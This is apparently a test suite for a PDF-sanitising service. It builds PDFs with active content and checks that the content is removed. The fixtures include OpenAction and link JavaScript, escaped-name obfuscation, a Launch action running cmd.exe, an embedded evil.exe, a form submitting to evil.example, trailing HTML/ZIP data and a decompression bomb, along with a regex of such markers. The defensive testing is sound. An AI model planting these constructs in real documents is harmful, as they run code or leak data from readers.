import { PDFDocument } from "@cantoo/pdf-lib";
import { getDocument } from "pdfjs-dist/legacy/build/pdf.mjs";
import { expect, test } from "vitest";
import { makePdf, packedStream } from "#server/testing/make-pdf.ts";
import { cleanDocument } from "./clean-document.ts";
import { rewritePdf } from "./rewrite-pdf.ts";

const object = (number: number, body: string | Buffer) =>
  Buffer.concat([Buffer.from(`${number} 0 obj\n`), Buffer.from(body), Buffer.from("\nendobj\n")]);
const packed = (text: string, head = "") =>
  object(20, packedStream(text, `/Type/ObjStm/N 1/First 4${head}`));

const SCRIPT = "<</S/JavaScript/JS(app.alert(1))>>";
const ACTIVE =
  /JavaScript|alert|OpenAction|Launch|cmd\.exe|Embedded|SubmitForm|XFA|RichMedia|GoTo|evil|\/AA?\b/;

test.each([
  ["no active content", {}],
  ["a script on opening", { catalogue: `/OpenAction${SCRIPT}` }],
  ["an escaped script name", { catalogue: "/#4fpen#41ction<</S/Java#53cript/JS(alert)>>" }],
  ["a script among its names", { catalogue: `/Names<</JavaScript<</Names[(a)${SCRIPT}]>>>>` }],
  ["a script on its page", { page: `/AA<</O${SCRIPT}>>` }],
  ["a script on a link", { page: `/Annots[<</Subtype/Link/A${SCRIPT}>>]` }],
  [
    "a link that starts a program",
    { page: "/Annots[9 0 R]", objects: [object(9, "<</Subtype/Link/A<</S/Launch/F(cmd.exe)>>>>")] },
  ],
  [
    "an embedded file",
    {
      catalogue: "/Names<</EmbeddedFiles<</Names[(a)9 0 R]>>>>",
      objects: [object(9, "<</Type/Filespec/F(evil.exe)>>")],
    },
  ],
  [
    "a form that submits data",
    {
      catalogue: "/AcroForm<</Fields[9 0 R]/XFA 9 0 R>>",
      page: "/Annots[9 0 R]",
      objects: [object(9, "<</Subtype/Widget/FT/Tx/A<</S/SubmitForm/F(https://evil.example)>>>>")],
    },
  ],
  ["a link into another file", { page: "/Annots[<</A<</S/GoToR/F(//host/evil)>>>>]" }],
  [
    "a script in an object stream",
    { catalogue: "/OpenAction 7 0 R", objects: [packed(`7 0 ${SCRIPT}`)] },
  ],
  ["HTML after the end", { behind: "<script>alert(1)</script>" }],
  ["a ZIP archive after the end", { behind: "PK\u0003\u0004evil" }],
] as const)("removes active content but keeps the pages of a PDF with %s", async (_name, parts) => {
  const bytes = Buffer.from(await rewritePdf(makePdf(parts)));
  expect(bytes.toString("latin1")).not.toMatch(ACTIVE);
  const document = await getDocument({ data: new Uint8Array(bytes), verbosity: 0 }).promise;
  const content = await (await document.getPage(1)).getTextContent();
  const text = content.items.map((item) => ("str" in item ? item.str : "")).join("");
  expect([document.numPages, text]).toEqual([1, "Transfer EGP 174"]);
  const found = [document.getJSActions(), document.getAttachments(), document.getOpenAction()];
  expect(await Promise.all(found)).toEqual([null, null, null]);
});

test("converts a drawn signature into an inert stamp", async () => {
  const drawn = "/AP<</N 9 0 R>>/Rect[0 0 20 20]";
  const bytes = Buffer.from(
    await rewritePdf(
      makePdf({
        catalogue: "/AcroForm<</SigFlags 3/Fields[8 0 R]>>",
        page: "/Annots[8 0 R]",
        objects: [
          object(8, `<</Subtype/Widget/FT/Sig${drawn}/A${SCRIPT}/V<</Type/Sig>>>>`),
          object(9, packedStream("0 0 20 20 re f", "/Subtype/Form/BBox[0 0 20 20]/F(evil.pdf)")),
        ],
      }),
    ),
  );
  expect(bytes.toString("latin1")).not.toMatch(ACTIVE);
  const document = await getDocument({ data: new Uint8Array(bytes), verbosity: 0 }).promise;
  const [stamp, ...others] = await (await document.getPage(1)).getAnnotations();
  expect([stamp.subtype, stamp.hasAppearance, others]).toEqual(["Stamp", true, []]);
});

test("returns identical bytes for the same document", async () => {
  const [first, again] = [
    await cleanDocument(makePdf(), "known"),
    await cleanDocument(makePdf(), "known"),
  ];
  expect(again.bytes.equals(first.bytes)).toBe(true);
});

test("returns locked for an encrypted document", async () => {
  const objects = [object(9, "<</Filter/Standard/V 2/R 3/O(a)/U(b)/P -4>>")];
  for (const trailer of ["/Encrypt 9 0 R", "/Encr#79pt 9 0 R"]) {
    expect(await rewritePdf(makePdf({ objects, trailer }))).toBe("locked");
  }
});

test.each([
  ["a truncated file", makePdf().subarray(0, 120)],
  ["a header only", Buffer.from("%PDF-1.7\n%%EOF")],
  ["an HTML page", Buffer.from("<script>%PDF-1.7")],
  ["a PDF after HTML", Buffer.concat([Buffer.from("<script>"), makePdf()])],
  [
    "a document without pages",
    Buffer.from(await (await PDFDocument.create()).save({ addDefaultPage: false })),
  ],
])("rejects %s as a PDF", async (_name, bytes) => {
  await expect(cleanDocument(bytes, "known")).rejects.toMatchObject({ code: "validation" });
});

test("stops a decompression bomb and processes the next document", async () => {
  const bomb = packedStream("\0".repeat(100 * 1024 * 1024), "/Type/ObjStm/N 1/First 4");
  expect(bomb.length).toBeLessThan(200_000);
  const objects = Array.from({ length: 20 }, (_, index) => object(20 + index, bomb));
  const stopped = cleanDocument(makePdf({ objects }), "known", 1_000);
  const next = cleanDocument(makePdf(), "known");
  await expect(stopped).rejects.toMatchObject({ code: "validation" });
  expect((await next).kind).toBe("pdf");
});
